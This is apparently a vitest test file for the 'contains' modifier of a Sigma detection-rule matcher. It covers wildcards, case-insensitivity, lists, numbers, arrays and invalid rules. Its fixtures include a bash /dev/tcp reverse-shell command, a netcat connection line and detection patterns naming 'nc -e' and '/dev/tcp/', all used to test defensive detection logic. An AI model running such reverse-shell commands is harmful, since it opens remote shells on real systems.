/** `contains`: the value may appear anywhere in the field (Sigma 2.1: puts `*` around the value). */
import { describe } from 'vitest';
import { cases, MISSING, refuses } from '../../../test/support/sigma.js';

describe('contains', () => {
  cases('f|contains', [
    ['/dev/tcp/', 'bash -i >& /dev/tcp/1.2.3.4/80', true],
    ['/DEV/TCP/', 'bash -i >& /dev/tcp/1.2.3.4/80', true], // case-insensitive
    ['/dev/udp/', 'bash -i >& /dev/tcp/1.2.3.4/80', false],
    ['/dev/tcp/', '/dev/tcp/', true], // the whole value is inside too
    [['nc -e', '/dev/tcp/'], 'x /dev/tcp/ y', true], // a list ORs
    [['nc -e', '/dev/udp/'], 'x /dev/tcp/ y', false],
    ['a*c', 'xxabbbcxx', true], // wildcards inside stay wildcards
    ['a?c', 'xxabcxx', true],
    ['a?c', 'xxabbcxx', false],
    ['a\\*c', 'xa*cx', true], // an escaped star is literal
    ['a\\*c', 'xabcx', false],
    ['*already*', 'an already wrapped value', true], // no doubled wildcard
    [4444, 'nc 1.2.3.4 4444', true], // a number is searched as text
    [4444, 14444, true], // in a number field too
    ['', 'anything', true],
    ['x', MISSING, false], // a missing field never contains anything
    ['x', null, false],
    ['root', ['user', 'root-admin'], true], // any element of an array field
    ['root', ['user', 'admin'], false],
    ['x', { event: { f: { nested: 'x' } } }, false], // an object is not a value
  ]);
  // A regex already matches anywhere: contains leaves it as it is.
  cases('f|re|contains', [
    ['b+c', 'abbbcd', true],
    ['^b', 'abc', false],
  ]);
  refuses([['f|contains', null, 'RULE_INVALID', /'contains' cannot apply to a null value/]]);
  refuses([['f|cidr|contains', '10.0.0.0/8', 'RULE_INVALID', /'contains' cannot apply to a CIDR network/]]);
});
